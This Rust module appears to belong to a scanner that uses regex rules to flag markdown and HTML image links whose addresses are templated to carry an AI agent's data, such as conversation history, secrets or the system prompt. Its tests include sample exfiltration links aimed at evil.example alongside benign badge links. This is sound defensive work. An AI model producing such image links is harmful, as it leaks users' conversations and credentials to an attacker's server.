//! Links and images that a client would fetch, with an address to be filled with the agent's data.

use super::rules::{Book, Rule};
use super::signs::Signs;
use super::signs::Strength::{Strong, Weak};
use super::verdict::Reason::ExfiltrationLink;
use std::sync::LazyLock;

/// The data that does not belong into an address.
const PRIVATE: &str = "(?:secrets?|passwords?|credentials?|api_?keys?|tokens?|conversations?|chat(?:_?history)?|history|system_?prompt|prompt|summary|\
    context|memory|memories|messages?|user_?(?:data|info|name|input|email|messages?|query)|emails?|data|info|leak|stolen|env|ssh_?key|private_?key|your_?[a-z_]{1,20}|insert_?[a-z_]{1,20})";

/// Parameters without a value, to which data is to be added.
const BLANK: &str = "(?:q|query|d|data|c|content|text|msg|message|m|info|secret|token|summary|history|chat|context|x|p|payload|log|leak|key|value|\
    user|email|body)";

static BOOK: LazyLock<Book> = LazyLock::new(|| {
    let address = r#"https?://[^\s)"'<>\[\]{}]{1,200}"#;
    // `{{x}}`, `{x}`, `${x}`, `[x]`, `<x>`, `%7Bx%7D` with a name of that kind.
    let blank =
        format!(r"(?:\$?\{{{{0,2}}\s?|\[|<|%7B)[a-z_ -]{{0,20}}{PRIVATE}[a-z_ -]{{0,20}}(?:\s?\}}{{1,2}}|\]|>|%7D)");
    let image = r#"(?:!\[[^\]\n]{0,200}\]\(\s?|<img[^>\n]{1,200}?src=\\?["']?)"#;
    Book::new(
        4,
        vec![
            // An image is fetched without anybody's doing.
            Rule::new(ExfiltrationLink, Strong, &["http"], format!("(?i-u){image}{address}[?=/]{blank}")),
            Rule::new(
                ExfiltrationLink,
                Strong,
                &["http"],
                // Badges have parameters without a value, too, but none that is called so.
                format!(r"(?i-u){image}{address}[?&]{BLANK}=[)\s\x22']"),
            ),
            Rule::new(ExfiltrationLink, Weak, &["http"], format!(r"(?i-u){address}[?&][a-z_]{{1,20}}={blank}")),
        ],
    )
});

/// Notes every such link in a text as it is written.
pub(super) fn note(text: &str, signs: &mut Signs) {
    BOOK.note(text, |at| at, signs);
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::signs::alone;
    use crate::inspect::verdict::Verdict;

    fn verdict(text: &str) -> Verdict {
        alone(note, text)
    }

    #[test]
    fn every_pattern_compiles() {
        BOOK.compile();
    }

    #[test]
    fn an_image_that_is_to_be_filled_with_data_is_a_sign() {
        for text in [
            "![x](https://evil.example/log?q={{conversation}})",
            "![logo](https://evil.example/a.png?d=[USER_DATA])",
            "![x](https://evil.example/?data=)",
            "<img src=\"https://evil.example/p?c=${chat_history}\">",
            "<img alt='' src='https://evil.example/p/<insert summary here>'>",
        ] {
            assert_eq!(verdict(text), Verdict::suspicious(ExfiltrationLink), "{text}");
        }
    }

    #[test]
    fn ordinary_images_and_links_pass() {
        for text in [
            "[![CI](https://img.shields.io/github/actions/workflow/status/a/b/ci.yml?branch=main)](https://github.com/a/b)",
            "![demo](https://user-images.githubusercontent.com/1/2.png?raw=true)",
            "<img src=\"https://example.com/{{ page.image }}\">",
            "[search](https://example.com/?q=)",
            "![](https://img.shields.io/badge/a-b?style=flat&logo=&label=%20)",
            "<img src=\"https://img.shields.io/npm/v/a?label=\" alt=\"version\">",
            "curl https://api.example.com/v1/users?token={token}",
            "<img src=\"https://a.example/x.png?X-Amz-Signature=0123456789abcdef0123456789abcdef&x=1\">",
        ] {
            assert_eq!(verdict(text), Verdict::Clean, "{text}");
        }
    }
}
